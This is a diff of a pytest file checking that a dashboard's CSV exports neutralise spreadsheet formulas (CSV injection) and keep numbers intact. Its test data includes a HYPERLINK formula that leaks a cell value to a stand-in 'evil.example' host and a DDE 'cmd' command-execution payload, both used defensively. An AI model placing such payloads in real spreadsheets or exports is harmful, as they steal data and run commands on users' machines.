@@ -1,5 +1,6 @@
 """CSV exports never carry a live spreadsheet formula (OWASP's CSV-injection rule), numbers stay numbers,
 and every CSV the project writes goes through the one shared writer."""
+
 import csv
 import io
 import re
@@ -13,8 +14,15 @@ from dashboard.csv_export import Number, csv_cell, csv_text
 from dashboard.models import Engine, Host, Incident, KVPoolEntry
 
 ROOT = Path(__file__).resolve().parent.parent
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+1", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def _csv(client, url):
@@ -32,8 +40,9 @@ def engine(db):
 def test_kvpool_csv_neutralises_formulas_in_notes_and_keeps_negative_numbers(viewer_client, engine):
     now = timezone.now()
     for i, note in enumerate(FORMULAS):
-        KVPoolEntry.objects.create(recorded_at=now.replace(microsecond=i), engine=engine, memory_share=-3.5,
-                                   pool_tokens=-2_500_000, note=note)
+        KVPoolEntry.objects.create(
+            recorded_at=now.replace(microsecond=i), engine=engine, memory_share=-3.5, pool_tokens=-2_500_000, note=note
+        )
     header, *rows = _csv(viewer_client, "/changelog/ledgers/kvpool.csv")
     share, pool, note = header.index("memory share"), header.index("pool (tokens)"), header.index("note")
     assert [r[note] for r in rows] == ["'" + f for f in FORMULAS]
@@ -41,20 +50,37 @@ def test_kvpool_csv_neutralises_formulas_in_notes_and_keeps_negative_numbers(vie
 
 
 def test_incident_csv_neutralises_every_text_cell(viewer_client, engine):
-    Incident.objects.create(opened_at=timezone.now(), unit="=1+1", trigger='=HYPERLINK("http://x")', peak="+5",
-                            fix_that_held="@reboot")
+    Incident.objects.create(
+        opened_at=timezone.now(), unit="=1+1", trigger='=HYPERLINK("http://x")', peak="+5", fix_that_held="@reboot"
+    )
     header, row = _csv(viewer_client, "/changelog/ledgers/incidents.csv")
     cells = dict(zip(header, row))
     assert cells["unit"] == "'=1+1" and cells["trigger"] == """'=HYPERLINK("http://x")"""
     assert cells["peak or duration"] == "'+5" and cells["fix that held"] == "'@reboot"
 
 
-@pytest.mark.parametrize("value,expected", [
-    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("plain", "plain"), ("", ""), (None, ""), ("a=b", "a=b"), ("'=already", "'=already"),
-    (-3.5, -3.5), (-7, -7), (Decimal("-1.25"), Decimal("-1.25")), (0, 0),
-    (Number(-3.5, "{:.2f}"), "-3.50"), (True, "True"),
-])
+@pytest.mark.parametrize(
+    "value,expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("plain", "plain"),
+        ("", ""),
+        (None, ""),
+        ("a=b", "a=b"),
+        ("'=already", "'=already"),
+        (-3.5, -3.5),
+        (-7, -7),
+        (Decimal("-1.25"), Decimal("-1.25")),
+        (0, 0),
+        (Number(-3.5, "{:.2f}"), "-3.50"),
+        (True, "True"),
+    ],
+)
 def test_csv_cell(value, expected):
     assert csv_cell(value) == expected
 
